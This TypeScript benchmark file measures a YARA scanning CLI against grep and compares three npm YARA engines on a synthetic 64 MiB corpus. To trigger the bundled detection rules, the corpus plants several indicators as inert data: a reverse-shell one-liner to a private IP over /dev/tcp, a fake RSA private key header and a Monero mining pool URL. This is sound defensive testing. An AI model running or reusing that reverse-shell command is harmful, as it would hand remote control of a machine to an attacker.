// Benchmark: YARA over a 1 GiB memhog archive through the built CLI (`yara`,
// a child process so its peak RSS is its own, the worker thread included),
// beside `grep -c -a` over the same archive file (which holds the pages
// file); and the three npm YARA engines compared on the same bytes in this
// process: @virustotal/yara-x (WASM, the one we ship), @litko/yara-x (N-API)
// and libyara-wasm (libyara in WASM). The other two are not dependencies:
// install them in a folder of your own and name its node_modules in
// YARA_BENCH_ENGINES (e.g. /tmp/engines/node_modules), else they are skipped.
// Run directly: node --import tsx test/bench/yara-bench.ts
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { blockScanner, compileRules } from '../../electron/inspect/yara/engine';
import { archiveFor, run } from './search-bench';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '..', '..');
const NEEDLE = 'CKPT-MEMHOG-MARKER-';
const RULE = `rule memhog_marker { strings: $m = "${NEEDLE}" condition: $m }`;
const MiB = 1024 * 1024;
// Read from the folder (the bench runs under tsx, which has no `?raw` imports).
const RULES_DIR = path.join(root, 'resources', 'yara-rules');
const BUNDLED_RULES = readdirSync(RULES_DIR).map((name) => ({
  name,
  text: readFileSync(path.join(RULES_DIR, name), 'utf8'),
}));

async function ours(archive: string, rules: string) {
  const cli = path.join(root, 'bin', 'checkpoint-inspector.cjs');
  const r = await run(process.execPath, [
    '-r',
    path.join(here, 'rss-report.cjs'),
    cli,
    'yara',
    archive,
    '--rules',
    rules,
    '--format',
    'json',
  ]);
  if (r.code !== 0) throw new Error(`yara failed (${r.code}): ${r.stderr}`);
  const rss = /@@rss (\{.*\})/.exec(r.stderr);
  const maxRssKiB = rss ? (JSON.parse(rss[1]!) as { maxRssKiB: number }).maxRssKiB : NaN;
  const report = JSON.parse(r.stdout) as {
    hits: { stringCount: number }[];
    scanned: { memoryBytes: number };
    elapsedMs: number;
  };
  return {
    seconds: r.seconds,
    scanSeconds: report.elapsedMs / 1000,
    markerMatches: report.hits.reduce((s, h) => s + h.stringCount, 0),
    memoryBytes: report.scanned.memoryBytes,
    peakRssMiB: maxRssKiB / 1024,
  };
}

/** The bytes every engine scans: 64 MiB of mixed bytes with the bundled rules' kinds of strings planted. */
function corpus(): Buffer {
  const buf = Buffer.alloc(64 * MiB);
  for (let i = 0; i < buf.length; i += 4) buf.writeUInt32LE(Math.imul(i, 2654435761) >>> 0, i);
  buf.write('-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1234567890abcdef', 1000, 'latin1');
  buf.write('stratum+tcp://xmr.example.net:3333', 40 * MiB, 'latin1');
  buf.write('bash -i >& /dev/tcp/10.9.8.7/4444 0>&1', 60 * MiB, 'latin1');
  return buf;
}

interface EngineRow {
  engine: string;
  kind: string;
  mibPerSecond: number | null;
  msPer4KiBScan: number | null;
  rulesMatched: number | null;
  note?: string;
}

function timed(scan: (b: Buffer) => number, buf: Buffer): Omit<EngineRow, 'engine' | 'kind'> {
  const window = 8 * MiB;
  let t = process.hrtime.bigint();
  let matched = 0;
  for (let at = 0; at < buf.length; at += window) matched += scan(buf.subarray(at, at + window));
  const bulk = Number(process.hrtime.bigint() - t) / 1e9;
  const small = Buffer.alloc(4096);
  scan(small);
  t = process.hrtime.bigint();
  for (let i = 0; i < 20; i++) scan(small);
  const per = Number(process.hrtime.bigint() - t) / 1e6 / 20;
  return {
    mibPerSecond: Number((buf.length / MiB / bulk).toFixed(1)),
    msPer4KiBScan: Number(per.toFixed(3)),
    rulesMatched: matched,
  };
}

async function engines(): Promise<EngineRow[]> {
  const buf = corpus();
  const text = BUNDLED_RULES.map((r) => r.text).join('\n');
  const rows: EngineRow[] = [];
  const compiled = compileRules(BUNDLED_RULES);
  if ('errors' in compiled) throw new Error('bundled rules do not compile');
  const scanner = blockScanner(compiled.rules);
  rows.push({ engine: '@virustotal/yara-x', kind: 'WASM (shipped)', ...timed((b) => scanner.scan(b).length, buf) });
  const dir = process.env.YARA_BENCH_ENGINES;
  const req = dir ? createRequire(path.join(dir, 'x.js')) : null;
  try {
    if (!req) throw new Error('YARA_BENCH_ENGINES not set');
    const litko = req('@litko/yara-x') as { compile(src: string): { scan(b: Buffer): unknown[] } };
    const r = litko.compile(text);
    rows.push({ engine: '@litko/yara-x', kind: 'N-API (native)', ...timed((b) => r.scan(b).length, buf) });
  } catch (error) {
    rows.push({
      engine: '@litko/yara-x',
      kind: 'N-API (native)',
      mibPerSecond: null,
      msPer4KiBScan: null,
      rulesMatched: null,
      note: String(error),
    });
  }
  try {
    if (!req) throw new Error('YARA_BENCH_ENGINES not set');
    type Lib = { run(b: string, r: string): { matchedRules: { size(): number } } };
    const lib = await (req('libyara-wasm') as () => Promise<Lib>)();
    // It takes the bytes as a string and compiles the rules again on every call.
    rows.push({
      engine: 'libyara-wasm',
      kind: 'WASM (libyara 4)',
      ...timed((b) => lib.run(b.toString('latin1'), text).matchedRules.size(), buf),
    });
  } catch (error) {
    rows.push({
      engine: 'libyara-wasm',
      kind: 'WASM (libyara 4)',
      mibPerSecond: null,
      msPer4KiBScan: null,
      rulesMatched: null,
      note: String(error),
    });
  }
  return rows;
}

export async function runYaraBench(mib = 1024): Promise<Record<string, unknown>> {
  const archive = await archiveFor(mib);
  const dir = mkdtempSync(path.join(tmpdir(), 'yara-bench-'));
  try {
    const rules = path.join(dir, 'marker.yar');
    writeFileSync(rules, RULE);
    const grep = await run('grep', ['-c', '-a', '-F', NEEDLE, archive]);
    const g = await run('grep', ['-c', '-a', '-F', NEEDLE, archive]);
    const o = await ours(archive, rules);
    return {
      archive: path.basename(archive),
      archiveBytes: statSync(archive).size,
      yaraSeconds: Number(o.seconds.toFixed(2)),
      yaraScanSeconds: Number(o.scanSeconds.toFixed(2)),
      grepSeconds: Number(Math.min(grep.seconds, g.seconds).toFixed(2)),
      grepMatchingLines: Number(g.stdout.trim()),
      markerMatches: o.markerMatches,
      memoryBytesScanned: o.memoryBytes,
      peakRssMiB: Number(o.peakRssMiB.toFixed(1)),
      targets: { peakRssMiB: '< 300' },
      ok: o.peakRssMiB < 300,
      engines: await engines(),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  runYaraBench().then(
    (r) => console.log(JSON.stringify(r, null, 2)),
    (error: unknown) => {
      console.error(error);
      process.exitCode = 1;
    },
  );
}
